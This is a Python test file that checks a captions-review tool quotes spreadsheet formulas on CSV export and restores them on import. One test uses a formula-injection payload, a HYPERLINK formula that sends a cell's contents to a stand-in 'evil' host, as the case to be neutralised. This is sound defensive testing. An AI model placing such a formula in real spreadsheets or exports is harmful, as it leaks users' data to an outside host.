"""Captions that a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
from dataclasses import replace
from pathlib import Path

import pytest

from brickfilm.review import export_captions, import_captions, list_captions, save_reviews
from brickfilm.schema.csv_cells import quoted_cell, unquoted_cell


@pytest.mark.parametrize("text", ["=1+1", "+1", "-a wall", "@SUM(A1)", "\t=1", "'=1", "''-x"])
def test_a_formula_is_quoted_and_comes_back(text: str) -> None:
    assert quoted_cell(text) == f"'{text}"
    assert unquoted_cell(quoted_cell(text)) == text


@pytest.mark.parametrize("text", ["", "a = b", "'Tis a wall", "1-2", "'"])
def test_other_text_stays(text: str) -> None:
    assert quoted_cell(text) == unquoted_cell(text) == text


def test_an_exported_file_runs_nothing_and_is_imported_unchanged(
    small_work: Path, tmp_path: Path
) -> None:
    first, second, *_ = list_captions(small_work)
    formula = '=HYPERLINK("http://evil?"&A1,"click")'
    reviews = [replace(first, caption=formula), replace(second, caption="'=1", note="@x")]
    assert len(save_reviews(small_work, reviews)) == 2
    file = tmp_path / "captions.csv"
    export_captions(small_work, file)
    with file.open(encoding="utf-8-sig", newline="") as stream:
        rows = {row["id"]: row for row in csv.DictReader(stream)}
    assert rows[first.id]["caption"] == f"'{formula}"
    assert rows[second.id]["caption"] == "''=1" and rows[second.id]["note"] == "'@x"
    assert import_captions(small_work, file) == []
